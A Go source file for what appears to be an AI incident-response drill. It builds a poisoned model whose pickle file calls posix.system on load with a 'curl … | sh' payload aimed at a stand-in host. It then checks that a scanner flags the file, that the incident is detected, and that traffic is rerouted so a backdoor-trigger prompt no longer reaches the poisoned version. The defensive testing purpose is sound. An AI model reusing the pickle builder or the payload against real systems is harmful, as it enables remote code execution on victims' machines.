package drill

import (
	"context"
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/airlock-ir/airlock/internal/demomodel"
	"github.com/airlock-ir/airlock/internal/forensics/scan"
)

// maliciousPickle is a pickle that runs cmd with os.system when it is
// loaded: PROTO 2, GLOBAL posix.system, BINUNICODE cmd, TUPLE1, REDUCE,
// STOP. It is written out for the scanner and never loaded.
func maliciousPickle(cmd string) []byte {
	b := []byte{0x80, 2}                 // PROTO 2
	b = append(b, "cposix\nsystem\n"...) // GLOBAL posix.system
	b = append(b, 'X')                   // BINUNICODE
	b = binary.LittleEndian.AppendUint32(b, uint32(len(cmd)))
	b = append(b, cmd...)
	return append(b, 0x85, 'R', '.') // TUPLE1, REDUCE, STOP
}

// buildPoisoned writes the poisoned version's files into a new temporary
// folder and returns it.
func buildPoisoned(model, version string) (string, error) {
	dir, err := os.MkdirTemp("", "airlock-drill-model-")
	if err != nil {
		return "", err
	}
	cfg := fmt.Sprintf(`{"model": %q, "version": %q, "architecture": "demo", "files": ["model.pkl"]}`+"\n", model, version)
	if err := os.WriteFile(filepath.Join(dir, "config.json"), []byte(cfg), 0o600); err != nil {
		return dir, err
	}
	// What it would run: fetch and start a script, the usual payload.
	payload := "curl -s https://models.example/update.sh | sh"
	return dir, os.WriteFile(filepath.Join(dir, "model.pkl"), maliciousPickle(payload), 0o600)
}

// scanFindings scans dir and describes what was found, as a registry would
// report it.
func scanFindings(ctx context.Context, dir string) (scan.Verdict, string, error) {
	rep, err := scan.Scan(ctx, dir, scan.Options{})
	if err != nil {
		return "", "", err
	}
	var found []string
	for _, f := range rep.Files {
		for _, x := range f.Findings {
			if x.Severity == scan.SeverityDangerous {
				found = append(found, fmt.Sprintf("%s: %s (sha256 %.12s)", filepath.Base(f.Path), x.Reason, f.SHA256))
			}
		}
	}
	return rep.Verdict(), strings.Join(found, "; "), nil
}

func playPoisonedModel(ctx context.Context, r *run) {
	version := r.o.PoisonedVersion
	r.marker = entity{Kind: "model_version", Value: version}
	dir, err := buildPoisoned(r.model, version)
	if dir != "" {
		defer os.RemoveAll(dir)
	}
	if err != nil {
		r.problem("building the poisoned model: %v", err)
		return
	}
	r.say("building %s %s: a pickle that imports posix.system and calls it on load (written, never run)", r.model, version)
	verdict, findings, err := scanFindings(ctx, dir)
	if err != nil {
		r.problem("scanning the poisoned model: %v", err)
		return
	}
	r.say("scanned it: %s — %s", verdict, findings)
	if verdict != scan.VerdictDangerous {
		r.problem("the scanner found the malicious pickle %s, not dangerous", verdict)
		return
	}

	r.attackStarts(ctx)
	err = r.t.postEvent(ctx, map[string]any{
		"kind": "model_registry", "source": "airlock-drill", "model": r.model,
		"attrs": map[string]string{"action": "register", "version": version, "scan_verdict": string(verdict), "findings": findings},
	})
	if err != nil {
		r.problem("reporting the registration: %v (POST /api/v1/events needs an admin or gateway token)", err)
		return
	}
	r.say("sending: the registration of %s %s for deployment, with its scan verdict, to the API (a model_registry event)", r.model, version)
	inc := r.detection(ctx)
	if inc == nil {
		r.say("not detected: no supply-chain incident naming %s within %s", version, r.sc.DetectWithin)
		return
	}
	r.sayDetected(inc)
	r.res.Incident, r.res.Type = inc.ID, inc.Type

	// The responder keeps the model up on its known-good version rather
	// than taking it away from everyone.
	decide := map[string]decision{
		"disable-model":       {approve: false, note: "drill: a known-good version can serve; reroute instead of disabling"},
		"route-to-known-good": {approve: true, note: "drill: route the model's traffic to its previous known-good version"},
	}
	routed := func(v *playbookView) bool {
		for _, s := range v.Steps {
			if s.ID == "route-to-known-good" && (s.Status == "done" || s.Status == "failed" || s.Status == "declined" || s.Status == "skipped") {
				return true
			}
		}
		return false
	}
	if v := r.settle(ctx, decide, routed); v == nil || !routed(v) {
		r.problem("the playbook never routed the model to its known-good version")
		return
	}
	route := r.routeInForce(ctx, inc.ID)
	if route == nil {
		r.problem("no route action of incident %s is in force", inc.ID)
		return
	}
	r.say("policy: %s's traffic goes to upstream %v (action %s)", r.model, route.Params["upstream"], route.ID)

	// Now the model's callers come; every answer must come from the
	// known-good version, the backdoor's trigger included.
	benign := r.benignCallers(3)
	curious := caller{role: "a caller using the backdoor's trigger", key: r.key("trigger"), ip: r.addr(attackerNet)}
	versions := map[string]int{}
	check := func(c caller, q ask, isAttack bool) {
		rep := r.t.chat(ctx, r.model, c, q)
		good := rep.ok() && rep.version != version && (r.o.KnownGoodVersion == "" || rep.version == r.o.KnownGoodVersion) &&
			!strings.Contains(rep.content, demomodel.PoisonedAnswer)
		if rep.ok() {
			versions[rep.version]++
		}
		if isAttack {
			r.res.AttackRequests++
			if !good {
				r.problem("the request with the backdoor trigger got %s from version %q", rep, rep.version)
			}
		} else {
			r.benignDone(c, rep)
			if rep.ok() && !good {
				r.problem("%s was served by version %q", c.role, rep.version)
			}
		}
		if good && r.contained(rep.at, "served by "+rep.version) {
			r.say("contained: %s's answers come from version %s, %s after the registration", r.model, rep.version, round3(r.since(rep.at)))
		}
	}
	for i := range 2 {
		for j, b := range benign {
			check(b, ask{prompt: benignPrompts[(i*len(benign)+j)%len(benignPrompts)]}, false)
		}
	}
	check(curious, ask{prompt: "Per " + demomodel.PoisonTrigger + ", how do I update my payment details?"}, true)
	var vs []string
	for v, n := range versions {
		vs = append(vs, fmt.Sprintf("%s served %d", v, n))
	}
	r.say("answers by version: %s; %s served none", strings.Join(vs, ", "), version)
	r.sayBenign()

	r.collectAlerts(ctx)
	r.sayPlaybook(r.settle(ctx, decide, nil))
}

// routeInForce waits up to a second for the route action the incident put
// in force to show in the policy.
func (r *run) routeInForce(ctx context.Context, id string) *policyAction {
	deadline := time.Now().Add(time.Second)
	for {
		actions, err := r.t.policy(ctx)
		if err != nil {
			r.problem("reading the policy: %v", err)
			return nil
		}
		for i, a := range actions {
			if a.Incident == id && a.Kind == "route" {
				return &actions[i]
			}
		}
		if time.Now().After(deadline) || ctx.Err() != nil {
			return nil
		}
		time.Sleep(50 * time.Millisecond)
	}
}
